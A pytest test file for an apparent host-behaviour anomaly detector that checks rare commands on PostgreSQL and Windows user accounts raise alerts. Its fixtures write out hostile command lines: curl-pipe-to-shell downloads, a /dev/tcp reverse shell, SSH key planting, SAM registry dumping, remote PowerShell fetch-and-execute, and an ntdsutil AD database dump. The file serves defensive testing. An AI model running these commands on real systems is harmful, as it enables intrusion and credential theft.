"""Accounts that cannot be modelled: what plainly means harm is told all the same, and nothing else."""

import pytest
from prevalence_tables import DAYS, Ran, hosts, life, seen

from longtail.prevalence.behaviours import UNIT, showing
from longtail.prevalence.findings import Alert, Severity
from longtail.prevalence.grounds import LEFT_OUT, learnable, scoped
from longtail.prevalence.judgement import judged, model
from longtail.prevalence.telling import HARMFUL
from longtail.settings import Settings

SHELL, SYSTEM32 = "/usr/bin/dash", "C:\\Windows\\System32\\"
POSTGRES = "/usr/lib/postgresql/15/bin/postgres"
FLEET = life(hosts(40))
WMI = SYSTEM32 + "wbem\\WmiPrvSE.exe"
DATABASE = [Ran(name, "/usr/bin/gzip", DAYS, "gzip -c wal", POSTGRES, account="postgres") for name in hosts(2, "pg")]
EXPLORER = "C:\\Windows\\explorer.exe"
PEOPLE = [
    Ran(name, rf"C:\Users\anna\tool{number}-{day}.exe", (day,), None, EXPLORER, account=rf"CORP\anna{number}")
    for number, name in enumerate(hosts(12, "pc"))
    for day in DAYS
]  # fmt: skip


def told(*ran: Ran, accounts: tuple[str, ...] = ("auto",)) -> list[Alert]:
    """The alerts on a fleet in which databases are too few, and people too busy, to be modelled."""
    found = judged(seen([*FLEET, *DATABASE, *PEOPLE, *ran]), Settings(), accounts)
    assert {each.account_class for each in found.populations if not each.judged} >= {"postgres", "human"}
    return [each for each in found.alerts if each.account_class in ("postgres", "human")]


def of_database(line: str, image: str = SHELL) -> Ran:
    return Ran("pg00", image, (7,), line, POSTGRES, account="postgres")


def of_person(line: str, parent: str = r"C:\Windows\explorer.exe") -> Ran:
    return Ran("pc03", SYSTEM32 + "cmd.exe", (7,), line, parent, account=r"CORP\anna3")


HARM = [
    of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"),
    of_database("sh -c echo ssh-rsa AAAAB3Nza >> /var/lib/postgresql/.ssh/authorized_keys"),
    of_database("bash -c bash -i >& /dev/tcp/db.example.net/443 0>&1"),
    of_database("curl http://198.51.100.7/x", "/usr/bin/curl"),
    of_person("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1735953953.14 2>&1", WMI),
    of_person("cmd.exe /c reg save hklm\\sam C:\\Windows\\Temp\\s.hiv"),
    of_person('cmd.exe /c powershell -c "iwr attacker.top/l.ps1|iex"'),
    of_person("cmd.exe /c curl -o C:\\Windows\\Temp\\j.exe http://198.51.100.7/j.exe"),
]


@pytest.mark.parametrize("act", HARM)
def test_what_plainly_means_harm_is_told_of_accounts_that_cannot_be_modelled(act: Ran) -> None:
    (alert,) = told(act)
    assert alert.host == act.host and alert.severity >= Severity.MEDIUM
    assert "this tenant, whatever the account" in alert.reason and "its tenant almost never" in alert.title


@pytest.mark.parametrize("act", HARM)
def test_what_was_told_of_them_is_not_learnt(act: Ran) -> None:
    everything = seen([*FLEET, *DATABASE, *PEOPLE, act])
    found, (placed, _) = judged(everything, Settings(), ("auto",)), model(everything)
    assert not showing(placed, HARMFUL).is_empty()
    learnt = learnable(placed.drop("judged", strict=False), scoped(found.grounds, UNIT).select(list(LEFT_OUT)))
    assert showing(learnt, HARMFUL).is_empty(), "neither the program nor the shell that carried it speaks for anybody"
    assert learnt.height >= placed.height - 4, "nor is anything else forgotten"


@pytest.mark.parametrize(
    "act",
    [
        of_database("sh -c pg_dump shop | gzip > /var/backups/shop.gz"),
        of_database("sh -c id"),
        of_person("cmd /k ping 8.8.8.8"),  # people do
        of_person("cmd /c curl -o D:\\x.zip https://example.com/x.zip"),
        of_person("cmd /c net user /domain"),
        of_person("net localgroup administrators CORP\\srvadmins /add"),
        of_person("cmd /c curl -o app.jar https://nexus.example.com/repo/app.jar"),
    ],
)
def test_what_is_merely_new_is_not(act: Ran) -> None:
    assert told(act) == []


def test_what_means_harm_and_many_do_is_lawful_here() -> None:
    line = "cmd.exe /c netsh advfirewall set allprofiles state off"
    everywhere = [
        Ran(name, SYSTEM32 + "cmd.exe", (day,), line, account=r"CORP\anna") for day, name in enumerate(hosts(10, "pc"))
    ]
    assert told(*everywhere) == []


def test_only_accounts_that_were_asked_for_are_looked_at() -> None:
    assert told(of_database("sh -c curl http://198.51.100.7/pg.sh | sh"), accounts=("mssql",)) == []


def test_what_is_told_of_them_was_not_judged_otherwise() -> None:
    act = of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh")
    found = judged(seen([*FLEET, *DATABASE, *PEOPLE, act]), Settings())
    verdicts = {each.account_class: each.reason for each in found.populations if not each.judged}
    assert verdicts["postgres"].startswith("not enough data")
    assert found.host_days == judged(seen([*FLEET, *DATABASE, *PEOPLE]), Settings()).host_days


def test_where_nothing_can_be_modelled_it_is_told_all_the_same_once_enough_was_seen() -> None:
    act = of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh")
    many = [
        Ran(name, rf"C:\Users\anna\x{name}-{day}.exe", (day,), None, EXPLORER, account=rf"CORP\{name}")
        for name in hosts(30, "ws")
        for day in DAYS
    ]
    (alert,) = judged(seen([*DATABASE, *PEOPLE, *many, act]), Settings()).alerts
    assert alert.host == "pg00"
    few = judged(seen([*DATABASE, act]), Settings())
    assert few.alerts == () and few.host_days == 0, "two hosts say nothing of what is rare"


def test_what_a_scanner_does_on_every_unix_host_hides_nothing_on_windows() -> None:
    scanner = [Ran(name, "/usr/bin/cat", (3,), "cat /etc/shadow", "/usr/bin/sudo", account="scan")
               for name in hosts(30, "lx")]  # fmt: skip

    def by_person(line: str) -> Ran:
        return Ran("pc03", SYSTEM32 + "ntdsutil.exe", (7,), line, SYSTEM32 + "cmd.exe", account=r"CORP\anna3")

    taken = by_person('ntdsutil.exe "ac i ntds" "ifm" "create full C:\\PerfLogs\\x" q q')
    assert [each.host for each in told(*scanner, taken)] == ["pc03"]
    assert told(*scanner, by_person('ntdsutil "ac i ntds" "files" "info" q q')) == []


SMALL = [Ran(name, "/usr/bin/gzip", DAYS, "gzip -c wal", POSTGRES, account="postgres") for name in hosts(8, "sm")]
BUSY = [Ran(name, f"/usr/bin/tool{number}{day}", (day,), None, POSTGRES, account="postgres")
        for number, name in enumerate(hosts(8, "sm")) for day in range(4, 10, 3)]  # fmt: skip


def test_harm_in_a_small_population_is_judged_by_all_accounts() -> None:
    """Eight databases of which something new is heard every third day say little; all hosts together say more."""
    act = Ran("sm03", SHELL, (7,), "sh -c curl -fsSL http://198.51.100.7/pg.sh | sh", POSTGRES, account="postgres")
    by_all, by_few = (judged(seen([*others, *SMALL, *BUSY, act]), Settings()) for others in (FLEET, FLEET[:1]))
    assert {each.account_class for each in by_all.populations if each.judged} >= {"postgres"}
    (more,), (less,) = ([each for each in found.alerts if each.host == "sm03"][:1] for found in (by_all, by_few))
    assert more.score > less.score


def test_what_a_good_part_of_a_population_does_is_judged_by_the_population() -> None:
    line = "sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"
    acts = [Ran(name, SHELL, (day,), line, POSTGRES, account="postgres") for day, name in enumerate(hosts(6, "sm"))]
    found = judged(seen([*FLEET, *SMALL, *BUSY, *acts]), Settings())
    assert not [each for each in found.alerts if each.host in ("sm04", "sm05") and "whatever" in each.reason]
